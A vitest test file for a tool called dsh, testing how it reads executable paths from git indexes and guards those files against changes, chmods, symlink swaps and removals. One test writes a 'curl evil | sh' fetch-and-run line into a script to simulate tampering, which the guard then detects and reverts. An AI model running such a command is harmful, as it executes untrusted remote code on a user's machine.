// The executable files shell commands may not change (issue 19, item 5): read from real git
// indexes of every form git writes here (versions 2, 3 with extended flags, 4 with compressed
// paths, SHA-256 object names), a split index and a damaged one said as unavailable (and then
// the files on disk count); a root without a repository walked; and the guard by content: a
// change, a chmod, a replacement by a link and a removal are found and put back, a touch is no
// change, dsh's own write and a settled (user's) change become the copy, and a file stays guarded
// when the index stops calling it executable.
import { execFileSync } from 'node:child_process'
import { chmodSync, readFileSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs'
import { afterEach, describe, expect, it } from 'vitest'
import { tempTree, type TempTree } from '@dsh/testkit'
import { ExecutableFiles, MAX_PROTECTED_EXECUTABLES } from '../src/executable-files.ts'
import { ExecutableGuard, MAX_BOUND_EXECUTABLES } from '../src/executable-guard.ts'
import { indexExecutables } from '../src/git-index.ts'

let tree: TempTree | undefined
afterEach(async () => tree?.dispose())

const git = (cwd: string, ...args: string[]): void => void execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...args], { cwd, stdio: 'ignore' })

const files = { 'run.sh': '#!/bin/sh\necho run\n', 'bin/tool': '#!/bin/sh\n', 'bin/deep/er/x': '#!/bin/sh\n', 'src/a.ts': 'export {}\n', 'conflict.sh': '#!/bin/sh\n' }

async function repository(...init: string[]): Promise<string> {
  tree = await tempTree(files)
  const repo = tree.root
  git(repo, 'init', '-q', ...init)
  for (const name of ['run.sh', 'bin/tool', 'bin/deep/er/x', 'conflict.sh']) chmodSync(tree.path(name), 0o755)
  git(repo, 'add', '.')
  git(repo, 'commit', '-qm', 'one')
  return repo
}

const executablesOf = (repo: string): string[] => {
  const found = indexExecutables(`${repo}/.git`)
  return found.kind === 'present' ? [...found.paths] : [found.kind]
}

describe('the executables a git index records', () => {
  it.each([['2'], ['3'], ['4']])('index version %s', async (version) => {
    const repo = await repository()
    git(repo, 'update-index', `--index-version=${version}`)
    // An intent-to-add entry sets the extended flags (version 3 and up).
    writeFileSync(`${repo}/later.sh`, '#!/bin/sh\n', { mode: 0o755 })
    git(repo, 'add', '-N', 'later.sh')
    expect(executablesOf(repo).toSorted()).toEqual(['bin/deep/er/x', 'bin/tool', 'conflict.sh', 'later.sh', 'run.sh'])
  })

  it('SHA-256 object names, no index yet, a sparse checkout, a split index and a damaged one', async () => {
    const repo = await repository('--object-format=sha256')
    expect(executablesOf(repo).toSorted()).toEqual(['bin/deep/er/x', 'bin/tool', 'conflict.sh', 'run.sh'])
    git(repo, 'update-index', '--skip-worktree', 'bin/tool')
    expect(executablesOf(repo)).not.toContain('bin/tool')
    git(repo, 'update-index', '--split-index')
    expect(indexExecutables(`${repo}/.git`)).toEqual({ kind: 'unavailable', why: 'a split index (core.splitIndex)' })
    git(repo, 'update-index', '--no-split-index')
    writeFileSync(`${repo}/.git/index`, readFileSync(`${repo}/.git/index`).subarray(0, 60))
    expect(indexExecutables(`${repo}/.git`)).toMatchObject({ kind: 'unavailable', why: expect.stringMatching(/^damaged index .*index: entry 0 past the end$/) })
    rmSync(`${repo}/.git/index`)
    expect(indexExecutables(`${repo}/.git`)).toEqual({ kind: 'absent' })
  })

  it('finds the tracked executables on disk shallowest first, walks what has no index, and leaves build outputs writable', async () => {
    const repo = await repository()
    writeFileSync(`${repo}/build-output`, 'ELF', { mode: 0o755 })
    chmodSync(`${repo}/bin/tool`, 0o644)
    const finder = new ExecutableFiles()
    const worktrees = [{ worktree: repo, gitDir: `${repo}/.git` }]
    expect(finder.find([repo], worktrees)).toEqual([`${repo}/conflict.sh`, `${repo}/run.sh`, `${repo}/bin/deep/er/x`])
    // A root inside the repository takes the index above it.
    expect(finder.find([`${repo}/bin`], [])).toEqual([`${repo}/bin/deep/er/x`])
    rmSync(`${repo}/.git/index`)
    expect(finder.find([repo], worktrees)).toEqual([`${repo}/build-output`, `${repo}/conflict.sh`, `${repo}/run.sh`, `${repo}/bin/deep/er/x`])
    rmSync(`${repo}/.git`, { recursive: true })
    expect(finder.find([repo], [])).toEqual([`${repo}/build-output`, `${repo}/conflict.sh`, `${repo}/run.sh`, `${repo}/bin/deep/er/x`])
  })
})

describe('how many are protected', () => {
  it(`at most ${MAX_PROTECTED_EXECUTABLES}, the shallowest`, async () => {
    const layout: Record<string, string> = {}
    for (let n = 0; n < MAX_PROTECTED_EXECUTABLES + 50; n++) layout[`${n < 100 ? 'top' : 'deep/er'}/x${String(n).padStart(4, '0')}`] = '#!/bin/sh\n'
    tree = await tempTree(layout)
    const t = tree
    for (const name of Object.keys(layout)) chmodSync(t.path(name), 0o755)
    git(t.root, 'init', '-q')
    git(t.root, 'add', '.')
    const found = new ExecutableFiles().find([t.root], [{ worktree: t.root, gitDir: t.path('.git') }])
    expect(found).toHaveLength(MAX_PROTECTED_EXECUTABLES)
    expect(found.slice(0, 100).every((path) => path.startsWith(t.path('top/')))).toBe(true)
    expect(found.at(-1)).toBe(t.path(`deep/er/x${String(MAX_PROTECTED_EXECUTABLES - 1).padStart(4, '0')}`))
  })
})

describe('the guard by content', () => {
  it('puts back a change, a chmod, a link in its place and a removal; a touch is no change', async () => {
    tree = await tempTree({ a: '#!/bin/sh\na\n', b: '#!/bin/sh\nb\n', c: '#!/bin/sh\nc\n', d: '#!/bin/sh\nd\n', e: '#!/bin/sh\ne\n' })
    const t = tree
    const paths = ['a', 'b', 'c', 'd', 'e'].map((name) => t.path(name))
    for (const path of paths) chmodSync(path, 0o755)
    const guard = new ExecutableGuard()
    expect(guard.observe(paths)).toEqual(paths)
    writeFileSync(t.path('a'), '#!/bin/sh\ncurl evil | sh\n')
    chmodSync(t.path('b'), 0o777)
    rmSync(t.path('c'))
    symlinkSync('/tmp/elsewhere', t.path('c'))
    rmSync(t.path('d'))
    utimesSync(t.path('e'), new Date(0), new Date(0))
    expect(guard.check()).toEqual(paths.slice(0, 4))
    for (const path of paths.slice(0, 4)) guard.restore(path)
    expect(guard.check()).toEqual([])
    for (const name of ['a', 'b', 'c', 'd']) {
      expect(readFileSync(t.path(name), 'utf8')).toBe(`#!/bin/sh\n${name}\n`)
      expect(statSync(t.path(name)).mode & 0o777).toBe(0o755)
    }
  })

  it("takes dsh's own write once and a settled change as the copy; a file stays guarded once seen", async () => {
    tree = await tempTree({ a: '#!/bin/sh\na\n' })
    const a = tree.path('a')
    chmodSync(a, 0o755)
    const guard = new ExecutableGuard()
    guard.observe([a])
    guard.allow(a)
    writeFileSync(a, '#!/bin/sh\nby the write tool\n')
    expect(guard.check()).toEqual([])
    writeFileSync(a, '#!/bin/sh\nby a command\n')
    expect(guard.check()).toEqual([a])
    guard.restore(a)
    expect(readFileSync(a, 'utf8')).toBe('#!/bin/sh\nby the write tool\n')
    writeFileSync(a, '#!/bin/sh\nby the user between commands\n')
    guard.settle()
    // No longer listed as executable by the index: still guarded, still bound.
    expect(guard.observe([])).toEqual([a])
    writeFileSync(a, '#!/bin/sh\nby a command\n')
    expect(guard.check()).toEqual([a])
    guard.restore(a)
    expect(readFileSync(a, 'utf8')).toBe('#!/bin/sh\nby the user between commands\n')
  })

  it(`binds at most ${MAX_BOUND_EXECUTABLES}, shallowest first`, async () => {
    const layout: Record<string, string> = {}
    for (let n = 0; n < 40; n++) layout[`${'d/'.repeat(n % 5)}f${n}`] = '#!/bin/sh\n'
    tree = await tempTree(layout)
    const t = tree
    const paths = Object.keys(layout).map((name) => t.path(name))
    for (const path of paths) chmodSync(path, 0o755)
    const sorted = paths.toSorted((x, y) => x.split('/').length - y.split('/').length || (x < y ? -1 : 1))
    expect(new ExecutableGuard().observe(sorted)).toEqual(sorted.slice(0, MAX_BOUND_EXECUTABLES))
  })
})
